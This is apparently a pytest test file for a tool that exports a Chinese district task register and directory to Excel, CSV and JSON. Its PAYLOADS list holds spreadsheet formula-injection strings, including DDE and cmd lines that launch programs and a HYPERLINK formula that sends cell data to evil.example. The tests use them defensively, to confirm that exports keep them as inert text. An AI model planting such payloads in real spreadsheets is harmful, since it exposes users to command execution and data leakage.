"""The directory and the register as tables: Excel workbooks and CSV."""

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable, Mapping, Sequence
from dataclasses import fields, is_dataclass, replace
from datetime import date
from decimal import Decimal
from enum import Enum
from pathlib import Path
from typing import Any, get_args

import pytest
from python_calamine import CalamineWorkbook
from rich.cells import cell_len

from accession_cli.actions.task_lookup import state_of
from accession_cli.cli.task_lookup import TableFormat
from accession_cli.papers import chinese
from accession_cli.papers.bureau import Register, RegisterEntry, register_csv, register_xlsx
from accession_cli.papers.directory_formats import FORMATS
from accession_cli.papers.directory_office import csv_field
from accession_cli.papers.tables import TABLE_TEMPLATE_REFUSED, numbers
from accession_cli.papers.templates import Environment
from accession_cli.registry.reading import opened
from accession_cli.scheme.directory import Edition
from accession_cli.scheme.registry import RecordId, Registry
from accession_cli.scheme.task import (
    ApplicationFacts,
    Authorization,
    Channel,
    Correction,
    Decision,
    DocumentBasis,
    Notified,
    Result,
    Route,
    StoredFile,
    Task,
    Via,
    WithheldBasis,
)
from conftest import Answer
from edition_examples import edition_of, filed_task, full_task, registry, retirement
from papers.test_directory import busy_edition
from refusals import refuses
from repositories import Clone

Command = Callable[..., Answer]
Row = dict[str, Any]

DAY = date(2026, 12, 31)
MARK = "示例数据，不作为依据"
SHEETS = ["目录", "变化", "依据变化", "部门索引", "街道索引", "编制信息"]
FOR_PROGRAMS = ["数据", "数据（依据）"]
PAYLOADS = (
    "=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A1",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    " =1+1",
    "　+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(1)",
    "{=1+1}",
    "'=1+1",
    "''",
    "https://evil.example/",
    "mailto:a@evil.example",
    "0012",
    "1e5",
    "2024-01-01",
    "_x0041_ A&B <b> \"引\" '号'",
)


def sheet(data: bytes, name: str) -> list[list[Any]]:
    """Every row of a sheet as Excel holds it."""
    found = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name(name)
    return found.to_python(skip_empty_area=False)


def table(data: bytes, name: str, first: str) -> list[Row]:
    """The rows of a sheet by their heads; *first* is the first of these."""
    rows = sheet(data, name)
    top = next(number for number, row in enumerate(rows) if row[0] == first)
    return [dict(zip(rows[top], row, strict=True)) for row in rows[top + 1 :]]


def xml(data: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        return file.read(name).decode()


def sheets_xml(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        names = [name for name in file.namelist() if name.startswith("xl/worksheets/")]
    return {name: xml(data, name) for name in names}


def read_csv(data: bytes) -> list[Row]:
    """What a reader of CSV gets, with the ' taken off that keeps formulas away."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    heads, *rest = ([cell.removeprefix("'") for cell in row] for row in rows)
    return [dict(zip(heads, row, strict=True)) for row in rest]


def directory(edition: Edition, form: str = "xlsx") -> bytes:
    return FORMATS[form].render(edition, Environment()).data


def register_of(*tasks: Task, unread: int = 0, known: Registry | None = None) -> Register:
    known = known or registry(*tasks)
    return Register(
        registry=known,
        as_of=DAY,
        unread=unread,
        entries=tuple(
            RegisterEntry(task=file.task, path=file.path, state=state_of(file.task, DAY).value)
            for file in known.tasks
        ),
    )


def rich_task() -> Task:
    """A task with every part filled in that a record has, and no two parts alike."""
    return replace(
        full_task(),
        application=ApplicationFacts(
            id=RecordId(prefix="DL", letter="A", year=2024, serial=31),
            received=date(2024, 3, 1),
            via=Via.PAPER,
            form=StoredFile(name="审批表.docx", sha256="ef" * 32),
        ),
        decision=(
            Decision(
                by="civil_affairs", date=date(2024, 3, 6), result=Result.RETURN, opinion="补依据"
            ),
            Decision(
                by="grid_centre", date=date(2024, 3, 7), result=Result.ADMIT, opinion="同意派单"
            ),
        ),
        retirement=replace(
            retirement(date(2026, 6, 12)),
            notified=(Notified(to="张贵庄街道办事处", date=date(2026, 6, 15)),),
        ),
        supersedes=(RecordId(prefix="DL", year=2023, serial=5),),
        superseded_by=(RecordId(prefix="DL", year=2026, serial=8),),
        corrections=(
            Correction(
                date=date(2025, 2, 3),
                field="funding.amount",
                old="1000.00",
                new="1234.50",
                reason="按批复更正",
                by="登记员甲",
            ),
        ),
    )


EXPECTED: Row = {
    "登记编号": "DL-2024-0007",
    "事务名称": "协助开展老年人健康管理",
    "别称": "老人体检；老年人体检通知",
    "状态": "已终止",
    "登记状态": "在册",
    "备案号": "津丽社准〔2024〕7号",
    "备案日期": date(2024, 3, 8),
    "类别": "卫生健康",
    "事务种类": "台账报表",
    "牵头部门": "区卫生健康委",
    "配合部门": "区民政局、区网格化管理中心",
    "协助渠道": "社区、网格员",
    "准入方式": "申请准入",
    "承接原目录": "",
    "原编号": "",
    "期限类型": "短期",
    "起始日期": date(2024, 4, 5),
    "截止日期": date(2027, 11, 6),
    "频次": "每年两次",
    "协助内容": "通知老年人参加体检",
    "工作目标": "体检率不低于八成",
    "工作权限": "只通知，不收取材料",
    "运行流程": "下发名单后逐户通知",
    "不做什么": "不收取材料",
    "制度依据": (
        "《基本医疗卫生与健康促进法》（2019年）第三十六条；"
        "《关于做好老年人健康管理的通知》（津卫〔2023〕45号，2023年1月20日）第六项"
    ),
    "依据附件校验值": "ab" * 32,
    "经费金额（元）": 1234.5,
    "经费周期": "一次性",
    "经费来源": "公共卫生经费",
    "拨付方式": "年初预拨",
    "经费说明": "含误餐补助",
    "人员装备": "血压计五台；医师两名",
    "机制牌子": "健康驿站牌子",
    "机制牌子依据": "《老年人权益保障法》（2018年）第五十条",
    "培训": "上岗前培训一天",
    "实施街道": "张贵庄街道",
    "实施社区": "示例一社区",
    "承接科室": "张贵庄街道公共卫生办公室",
    "申请编号": "DL-A-2024-0031",
    "收件日期": date(2024, 3, 1),
    "收件方式": "纸质",
    "审批表文件": "审批表.docx",
    "审批表校验值": "ef" * 32,
    "审批情况": "区民政局2024年3月6日退回补正：补依据；区网格化管理中心2024年3月7日准予：同意派单",
    "准予日期": date(2024, 3, 7),
    "派发情况": "张贵庄街道2024年3月10日，编号WG-88",
    "终止申请日期": date(2026, 6, 10),
    "终止生效日期": date(2026, 6, 12),
    "终止原因": "工作任务已经完成",
    "终止材料": "终止申请.pdf",
    "终止材料校验值": "cd" * 32,
    "是否误登记": "否",
    "终止告知": "张贵庄街道办事处2026年6月15日",
    "承接的原事务": "DL-2023-0005",
    "由以下事务承接": "DL-2026-0008",
    "更正记录": (
        "2025年2月3日登记员甲更正经费金额（funding.amount）：原为1000元，改为1234.50元，原因：按批复更正"
    ),
    "记录文件": "registry/tasks/2024/DL-2024-0007.yaml",
}


def test_the_register_has_every_field_of_a_task_in_a_column_of_its_own() -> None:
    data = register_xlsx(register_of(rich_task()), Environment()).data
    (row,) = table(data, "登记台账", "登记编号")
    assert row == EXPECTED


def test_the_csv_of_the_register_says_the_same() -> None:
    (row,) = read_csv(register_csv(register_of(rich_task()), Environment()).data)
    plain = {key: str(value) for key, value in EXPECTED.items()} | {"经费金额（元）": "1234.50"}
    assert row == {**plain, "版本说明": f"截至2026年12月31日；内部使用；{MARK}"}


def leaves(value: object, names: Mapping[str, str]) -> list[str]:
    """All that a task says, as its table writes it: keys as names, without reviewers' names."""
    if isinstance(value, WithheldBasis):
        value = value.date
    if isinstance(value, tuple):
        return [text for part in value for text in leaves(part, names)]
    if is_dataclass(value) and not isinstance(value, RecordId):
        return leaves(tuple(getattr(value, one.name) for one in fields(value)), names)
    match value:
        case Enum() | bool() | None:
            return []
        case date():
            return [chinese.day(value)]
        case Decimal():
            return [str(float(value))]
    return [names.get(str(value), str(value))]


def test_nothing_that_a_record_of_the_sample_says_is_missing_in_the_register(
    district: Clone, accession: Command, tmp_path: Path
) -> None:
    out = tmp_path / "all.xlsx"
    answer = accession("-C", str(district.top), "export", "--out", str(out))
    assert answer.code == 0, answer.err
    rows = {row["登记编号"]: row for row in table(out.read_bytes(), "登记台账", "登记编号")}
    known = opened(district.top / "registry").registry
    names = {key: one.name for key, one in known.agencies.items()} | dict(known.scheme.kinds)
    names |= {code: place.name for code, place in known.subdistricts.items()}
    names |= {
        code: one.name for p in known.subdistricts.values() for code, one in p.communities.items()
    }
    names |= {key: body.name for key, body in known.scheme.bodies.items()}
    assert len(rows) == len(known.tasks) > 70
    for file in known.tasks:
        row = rows[str(file.task.id)]
        shown = "\n".join(
            chinese.day(cell) if isinstance(cell, date) else str(cell) for cell in row.values()
        )
        said = leaves(replace(file.task, corrections=()), names)
        assert [text for text in said if text not in shown] == [], file.path


def test_the_directory_has_its_sheets_and_its_columns() -> None:
    data = directory(busy_edition())
    assert CalamineWorkbook.from_filelike(io.BytesIO(data)).sheet_names == [
        *SHEETS,
        *FOR_PROGRAMS,
    ]
    row = table(data, "目录", "序号")[-1]
    assert row == {
        "序号": 4,
        "事务名称": "协助开展老年人健康管理\n（台账报表）",
        "类别": "卫生健康",
        "牵头部门": "区卫生健康委\n配合：区民政局、区网格化管理中心",
        "制度依据": (
            "1．《基本医疗卫生与健康促进法》（2019年）第三十六条\n"
            "2．《关于做好老年人健康管理的通知》（津卫〔2023〕45号，2023年1月20日）第六项"
        ),
        "协助内容（职责范围）": (
            "通知老年人参加体检\n目标：体检率不低于八成\n权限：只通知，不收取材料\n"
            "人员装备：血压计五台；医师两名\n培训：上岗前培训一天\n"
            "机制牌子：健康驿站牌子，依据《老年人权益保障法》（2018年）第五十条"
        ),
        "运行流程": "下发名单后逐户通知",
        "期限": "短期\n2024年4月5日至2027年11月6日\n频次：每年两次",
        "协助渠道": "社区、网格员\n示例一社区",
        "经费保障": "一次性1234.50元\n来源：公共卫生经费\n拨付：年初预拨\n说明：含误餐补助",
        "备案号": "津丽社准〔2024〕7号\n2024年3月8日\nDL-2024-0007",
    }


def test_the_csv_of_the_directory_has_the_same_items() -> None:
    made = busy_edition()
    rows = table(directory(made), "目录", "序号")
    source = f"2026年版，截至2026年12月31日；{MARK}"
    wanted = [{**row, "序号": str(int(row["序号"])), "版本说明": source} for row in rows]
    assert read_csv(directory(made, "csv")) == wanted


def test_each_kind_of_change_has_its_row() -> None:
    rows = table(directory(busy_edition()), "变化", "变化情形")
    assert [(row["变化情形"], row["事务名称"], row["日期"]) for row in rows] == [
        ("新准入", "承接来的事务", date(2026, 3, 8)),
        ("终止", "已经终止的事务", date(2026, 6, 1)),
        ("内容变化", "协助社会救助入户走访之1", date(2026, 5, 6)),
        ("承接", "承接来的事务", date(2026, 3, 8)),
    ]
    corrected = rows[2]
    assert (corrected["原内容"], corrected["现内容"]) == ("协助旧内容", "协助新内容")
    assert rows[1]["原因"] == "工作任务已经完成（由DL-2026-0001承接）"


def test_the_workbook_lists_no_task_that_was_entered_in_error() -> None:
    wrong = retirement(date(2026, 6, 1), entered_in_error=True)
    over = filed_task(3, title="做完了", retirement=retirement(date(2026, 6, 1)))
    data = directory(
        edition_of(filed_task(1), filed_task(2, title="登记错了", retirement=wrong), over)
    )
    said = str(sheet(data, "变化"))
    assert "登记错了" not in said
    assert "做完了" in said
    assert "终止和期限届满1项，误登记注销1项，" in said


def test_changes_of_the_law_and_the_indexes_have_sheets() -> None:
    data = directory(busy_edition())
    (change,) = table(data, "依据变化", "序号")
    assert (change["情形"], change["变化日期"]) == ("已修订", date(2025, 9, 1))
    assert change["现行条文"] == "《传染病防治法》（2025年）第十五条"
    agencies = {row["部门"]: row["牵头事务序号"] for row in table(data, "部门索引", "部门")}
    assert agencies["区民政局"] == "1～3"
    places = table(data, "街道索引", "街道")
    assert places[0]["事务序号"] == "1～3"
    assert ("张贵庄街道", "示例一社区", "4") in [
        (row["街道"], row["社区"], row["事务序号"]) for row in places
    ]
    told = {row["项目"]: row["内容"] for row in table(data, "编制信息", "项目")}
    assert told["基准日"] == date(2026, 12, 31)
    assert told["内容校验值"] == json.loads(directory(busy_edition(), "json"))["content_sha256"]
    assert "未能还原" not in told


def test_long_runs_of_numbers_are_drawn_together() -> None:
    assert numbers([1, 2, 4, 5, 6, 9]) == "1、2、4～6、9"
    assert numbers([]) == ""


def hostile(serial: int, text: str) -> Task:
    return filed_task(
        serial,
        title=text,
        frequency=text,
        training=text,
        resources=(text,),
        authorization=Authorization(content=text, target=text, authority=text, workflow=text),
        basis=(DocumentBasis(document=text, number=text, date=None, clause=text, attachment=None),),
    )


def test_text_stays_text_whatever_it_begins_with() -> None:
    tasks = tuple(hostile(serial, text) for serial, text in enumerate(PAYLOADS, 1))
    register = register_xlsx(register_of(*tasks), Environment()).data
    made = directory(edition_of(*tasks))
    for column in ("事务名称", "频次", "协助内容", "运行流程", "培训", "人员装备"):
        assert [row[column] for row in table(register, "登记台账", "登记编号")] == list(PAYLOADS)
    assert [row["运行流程"] for row in table(made, "目录", "序号")] == list(PAYLOADS)
    for data in (register, made):
        for name, text in sheets_xml(data).items():
            assert not re.search(r"<f[ >]|<hyperlink|<oleObject|<legacyDrawing", text), name
            texts = set(re.findall(r'<c r="[A-Z]+[0-9]+"[^>]* t="([a-z]+)"', text))
            assert texts <= {"s", "b"}, name
        with zipfile.ZipFile(io.BytesIO(data)) as file:
            parts = " ".join(file.namelist())
        assert not re.search("externalLink|connections|vbaProject|calcChain", parts)


def test_texts_that_look_like_formulas_are_quoted_for_those_who_edit_them() -> None:
    styles = xml(directory(edition_of(hostile(1, "=1+1"))), "xl/styles.xml")
    place = re.findall(r"<xf [^>]*", styles.split("<cellXfs")[1])
    quoted = {number for number, one in enumerate(place) if 'quotePrefix="1"' in one}
    cells = sheets_xml(directory(edition_of(hostile(1, "=1+1"))))["xl/worksheets/sheet1.xml"]
    rows = cells.split("<row ")[4:]
    found = dict(re.findall(r'<c r="([A-Z])[0-9]+" s="([0-9]+)"', rows[-1]))
    assert int(found["G"]) in quoted
    assert int(found["C"]) not in quoted


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_field_of_a_csv_begins_like_a_formula_and_every_value_comes_back(text: str) -> None:
    data = register_csv(register_of(hostile(1, text)), Environment()).data
    (row,) = read_csv(data)
    assert (row["事务名称"], row["运行流程"]) == (text, text)
    for cells in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        assert [cell for cell in cells if re.match(r"\s*[=+\-@＝＋－＠]", cell)] == []


def test_a_csv_opens_as_utf_8_in_excel_and_every_field_stands_in_quotes() -> None:
    data = directory(busy_edition(), "csv")
    assert data.startswith(b'\xef\xbb\xbf"')
    assert data.endswith(b'"\r\n')
    assert data.count(b"\r\n") == 1 + 4
    assert [csv_field(cell) for cell in (3, Decimal("2.5"), DAY, "")] == [
        "3",
        "2.50",
        "2026-12-31",
        "",
    ]


def test_days_are_days_and_money_is_a_number_in_their_chinese_form() -> None:
    data = register_xlsx(register_of(rich_task()), Environment()).data
    styles = xml(data, "xl/styles.xml")
    assert 'yyyy"年"m"月"d"日"' in styles.replace("&quot;", '"')
    assert 'formatCode="#,##0.00"' in styles
    (row,) = table(data, "登记台账", "登记编号")
    assert isinstance(row["备案日期"], date)
    assert isinstance(row["经费金额（元）"], float)


def test_drop_downs_offer_the_lists_of_a_hidden_sheet() -> None:
    data = register_xlsx(
        register_of(rich_task(), filed_task(1, class_="已经撤销的类别")), Environment()
    ).data
    lists = sheet(data, "选项")
    heads = lists[0]
    offered = {
        head: [row[place] for row in lists[1:] if row[place]] for place, head in enumerate(heads)
    }
    assert offered["类别"][-1] == "已经撤销的类别"
    assert offered["协助渠道"] == ["社区", "网格员", "社区、网格员"]
    assert offered["期限类型"] == ["长期", "短期", "临时"]
    assert {"区民政局", "区卫生健康委"} <= set(offered["部门"])
    assert re.search(r'name="选项"[^>]* state="hidden"', xml(data, "xl/workbook.xml"))
    rules = re.findall(
        r'<dataValidation type="list"[^>]* sqref="([A-Z]+)[^"]*"><formula1>([^<]*)</formula1>',
        xml(data, "xl/worksheets/sheet1.xml"),
    )
    where = sheet(data, "登记台账")[3]
    assert {where[letter(column)]: source for column, source in rules} == {
        "类别": "'选项'!$A$2:$A$11",
        "牵头部门": "'选项'!$B$2:$B$5",
        "协助渠道": "'选项'!$C$2:$C$4",
        "事务种类": "'选项'!$D$2:$D$6",
        "期限类型": "'选项'!$E$2:$E$4",
        "准入方式": "'选项'!$F$2:$F$4",
        "经费周期": "'选项'!$G$2:$G$3",
        "收件方式": "'选项'!$H$2:$H$4",
        "是否误登记": "'选项'!$I$2:$I$3",
    }


def letter(column: str) -> int:
    """The place of a column from 0: A, B … Z, AA."""
    place = 0
    for char in column:
        place = place * 26 + ord(char) - ord("A") + 1
    return place - 1


@pytest.mark.parametrize("number", range(1, 7))
def test_heads_stay_on_the_screen_and_on_every_sheet_of_paper(number: int) -> None:
    data = directory(busy_edition(draft=True))
    text = xml(data, f"xl/worksheets/sheet{number}.xml")
    assert re.search(r'<pane [^>]*ySplit="[4-6]"[^>]* state="frozen"', text)
    assert "<autoFilter " in text
    assert 'paperSize="9"' in text
    assert 'orientation="landscape"' in text
    assert 'fitToHeight="0"' in text
    assert "第 &amp;P 页" in text
    header = re.search("<oddHeader>(.*)</oddHeader>", text)
    assert header
    assert "指导目录（2026年版）" in header[1]
    assert f"{MARK} 征求意见稿" in header[1]
    titles = xml(data, "xl/workbook.xml")
    assert re.search(rf'_xlnm.Print_Titles" localSheetId="{number - 1}"', titles)


def test_the_first_row_of_every_sheet_says_what_the_document_is() -> None:
    made = busy_edition(draft=True)
    for name in SHEETS:
        assert sheet(directory(made), name)[0][0] == f"{MARK}　征求意见稿"
    earnest = replace(busy_edition(), scheme=replace(made.scheme, sample=False))
    data = directory(earnest)
    for name in SHEETS:
        assert sheet(data, name)[0][0] == made.title
    assert MARK not in "".join(sheets_xml(data).values()) + xml(data, "xl/sharedStrings.xml")
    drafted = directory(replace(earnest, draft=True), "csv")
    assert read_csv(drafted)[0]["版本说明"] == "2026年版，截至2026年12月31日；征求意见稿"


def test_a_title_with_signs_of_a_header_is_shown_as_it_is() -> None:
    made = busy_edition()
    titled = replace(made, scheme=replace(made.scheme, directory_title="A&P&D 目录{year}"))
    text = xml(directory(titled), "xl/worksheets/sheet1.xml")
    assert "A&amp;&amp;P&amp;&amp;D 目录2026" in text


def test_columns_are_wide_enough_for_chinese_and_not_wider_than_they_may_be() -> None:
    text = xml(directory(busy_edition()), "xl/worksheets/sheet4.xml")
    widths = [float(width) for width in re.findall(r'<col [^>]*width="([0-9.]+)"', text)]
    assert 16 <= widths[0] <= 20  # 区网格化管理中心 takes sixteen
    text = xml(directory(busy_edition()), "xl/worksheets/sheet1.xml")
    widths = [float(width) for width in re.findall(r'<col [^>]*width="([0-9.]+)"', text)]
    assert max(widths) < 36


def test_the_same_register_gives_the_same_bytes() -> None:
    made = register_of(rich_task(), filed_task(1))
    for render in (register_xlsx, register_csv):
        assert render(made, Environment()).data == render(made, Environment()).data
    data = register_xlsx(made, Environment()).data
    assert "2026-12-31T00:00:00Z" in xml(data, "docProps/core.xml")
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        assert {member.date_time for member in file.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_a_text_too_long_for_a_cell_is_cut_and_that_is_said() -> None:
    long = "字" * 40_000 + "𠮷"
    made = register_xlsx(register_of(filed_task(1, training=long)), Environment())
    (row,) = table(made.data, "登记台账", "登记编号")
    assert row["培训"].startswith("字字")
    assert row["培训"].endswith("……（超出 Excel 单元格的字数上限，全文见登记库）")
    assert len(row["培训"]) == 32_767
    (remark,) = made.remarks
    assert remark.message.endswith("says so: 1.")


def test_who_reviewed_papers_that_are_kept_back_is_in_no_table() -> None:
    task = filed_task(1, basis=(WithheldBasis(reviewer="某审核员", date=date(2024, 3, 1)),))
    made = register_of(task)
    edition = edition_of(task)
    found = [xml(register_xlsx(made, Environment()).data, "xl/sharedStrings.xml")]
    found += [xml(directory(edition), "xl/sharedStrings.xml")]
    found += [register_csv(made, Environment()).data.decode(), directory(edition, "csv").decode()]
    for text in found:
        assert "依据材料不予公开，已于2024年3月1日线下审核" in text
        assert "某审核员" not in text


def test_an_emergency_task_and_one_without_anything_optional_have_rows() -> None:
    bare = filed_task(
        1,
        frequency=None,
        application=None,
        route=Route.EMERGENCY,
        channels=(Channel.GRID,),
        agency="gone",
    )
    (row,) = table(register_xlsx(register_of(bare), Environment()).data, "登记台账", "登记编号")
    assert (row["准入方式"], row["牵头部门"], row["收件方式"]) == ("应急快速准入", "gone", "")
    (item,) = table(directory(edition_of(bare)), "目录", "序号")
    assert item["协助渠道"] == "网格员（应急准入）\n全区"


def test_a_register_without_a_task_and_an_edition_without_an_item_can_be_made() -> None:
    data = register_xlsx(register_of(unread=2), Environment()).data
    assert table(data, "登记台账", "登记编号") == []
    assert "有2个文件无法读取" in sheet(data, "登记台账")[2][0]
    assert table(directory(edition_of()), "目录", "序号") == []


OWN = """
[page]
title = "自定"
marks = ""
footer = ""
cut = ""
source_head = "说明"
source = ""
[[sheet]]
key = "items"
name = "%s"
[[sheet.column]]
head = "名称"
widest = 20
value = "%s"
"""


def own(tmp_path: Path, text: str) -> Environment:
    (tmp_path / "directory.tables.toml").write_text(text, encoding="utf-8")
    return Environment(template_folders=(tmp_path,))


def test_a_district_may_bring_columns_of_its_own(tmp_path: Path) -> None:
    environment = own(tmp_path, OWN % ("甲", "task.title ~ '！'"))
    data = FORMATS["xlsx"].render(edition_of(filed_task(1)), environment).data
    assert sheet(data, "甲")[-1] == ["协助社会救助入户走访之1！"]


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("[page", "end of a table declaration"),
        ("[page]\ntitle = ''\n", "marks"),
        (OWN % ("甲", "task.nothing"), "nothing"),
        (OWN % ("甲", "1 / 0"), "zero"),
        (OWN % ("甲", "'a' +"), "unexpected"),
        (OWN % ("甲", "1), (2"), "1), (2"),
        (OWN % ("甲", "task.__class__.__mro__"), "__class__"),
        (OWN % ("甲/乙", "1"), "甲/乙"),
    ],
)
def test_a_template_of_a_districts_own_that_fails_is_named(
    tmp_path: Path, text: str, reason: str
) -> None:
    with refuses(TABLE_TEMPLATE_REFUSED) as refused:
        FORMATS["xlsx"].render(edition_of(filed_task(1)), own(tmp_path, text))
    assert "directory.tables.toml" in refused.value.message
    assert reason in refused.value.message


def export(accession: Command, clone: Clone, *more: str) -> Answer:
    return accession("-C", str(clone.top), "export", *more)


def test_export_says_where_how_many_and_what_next_within_eighty_columns(
    district: Clone, accession: Command, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "80")
    monkeypatch.chdir(district.top)
    answer = export(accession, district)
    assert answer.code == 0
    path = "build/register/东丽区社区组织工作事务准入登记台账（2026-10-12）.xlsx"
    assert answer.out == f"{path}\n"
    assert (district.top / path).is_file()
    assert "Tasks: 72, as of 2026-10-12." in answer.err
    assert "sample" in answer.err
    assert "→ Open" in answer.err
    assert [line for line in answer.err.splitlines() if cell_len(line) > 80] == []


@pytest.mark.parametrize("form", get_args(TableFormat))
def test_export_tells_programs_what_it_wrote(
    district: Clone, accession: Command, tmp_path: Path, form: str
) -> None:
    out = tmp_path / f"register.{form}"
    told = json.loads(export(accession, district, "--out", str(out), "--json").out)
    assert (told["version"], told["format"], told["path"]) == (1, form, str(out))
    assert (told["as_of"], told["tasks"], told["unread"]) == ("2026-10-12", 72, [])
    assert told["bytes"] == len(out.read_bytes())
    again = json.loads(export(accession, district, "--out", str(out), "--json").out)
    assert again["sha256"] == told["sha256"]


def test_the_json_of_the_register_has_the_whole_records(
    district: Clone, accession: Command, tmp_path: Path
) -> None:
    out = tmp_path / "register.json"
    export(accession, district, "--out", str(out), "--status", "retired")
    made = json.loads(out.read_text(encoding="utf-8"))
    assert (made["version"], made["sample"], made["as_of"]) == (1, True, "2026-10-12")
    assert {task["status"] for task in made["tasks"]} == {"retired"}
    first = made["tasks"][0]
    shown = json.loads(accession("-C", str(district.top), "show", first["id"], "--json").out)
    assert first["record"] == shown["record"]


def test_a_reviewer_is_not_in_the_json_of_the_register(
    district: Clone, accession: Command, tmp_path: Path
) -> None:
    path = "registry/tasks/2024/DL-2024-0002.yaml"
    text = (district.top / path).read_text(encoding="utf-8")
    basis = "basis:\n  - withheld: true\n    reviewer: 某审核员\n    date: 2024-01-05\nfunding:\n"
    district.write(path, re.sub(r"basis:\n.*?funding:\n", basis, text, flags=re.DOTALL))
    out = tmp_path / "register.json"
    assert export(accession, district, "--out", str(out)).code == 0
    assert '"withheld": true' in out.read_text(encoding="utf-8")
    assert "某审核员" not in out.read_text(encoding="utf-8")


def test_export_can_be_limited_by_status_and_moved_to_another_day(
    district: Clone, accession: Command, tmp_path: Path
) -> None:
    out = tmp_path / "in-force.csv"
    chosen = ("--out", str(out), "--status", "in_force", "--as-of", "2024-12-31")
    answer = export(accession, district, *chosen)
    listed = accession("-C", str(district.top), "list", "--as-of", "2024-12-31", "--json")
    wanted = [task["id"] for task in json.loads(listed.out)["tasks"]]
    rows = read_csv(out.read_bytes())
    assert [row["登记编号"] for row in rows] == wanted
    assert f"Tasks: {len(wanted)}, as of 2024-12-31." in answer.err
    assert {row["状态"] for row in rows} == {"生效"}


@pytest.mark.parametrize(
    "arguments",
    [("--out", "x.yaml"), ("--out", "x"), ("--out", "x.xlsx", "--format", "csv")],
)
def test_a_file_name_that_does_not_say_its_format_is_refused(
    district: Clone, accession: Command, monkeypatch: pytest.MonkeyPatch, arguments: Sequence[str]
) -> None:
    monkeypatch.chdir(district.top)
    before = district.files()
    answer = export(accession, district, *arguments)
    assert answer.code == 2
    assert f"The name {arguments[1]} must end in: ." in answer.err
    assert district.files() == before


def test_a_register_says_which_records_it_had_to_leave_out(
    district: Clone, accession: Command, tmp_path: Path
) -> None:
    district.write("registry/tasks/2025/DL-2025-0001.yaml", "rubbish\n")
    out = tmp_path / "register.xlsx"
    answer = export(accession, district, "--out", str(out))
    assert "1 in all, the first is registry/tasks/2025/DL-2025-0001.yaml" in answer.err
    assert "有1个文件无法读取" in sheet(out.read_bytes(), "登记台账")[2][0]


def test_a_file_that_cannot_be_written_is_said(
    district: Clone, accession: Command, tmp_path: Path
) -> None:
    (tmp_path / "taken.xlsx").mkdir()
    answer = export(accession, district, "--out", str(tmp_path / "taken.xlsx"))
    assert answer.code == 5
    assert "cannot be written" in answer.err
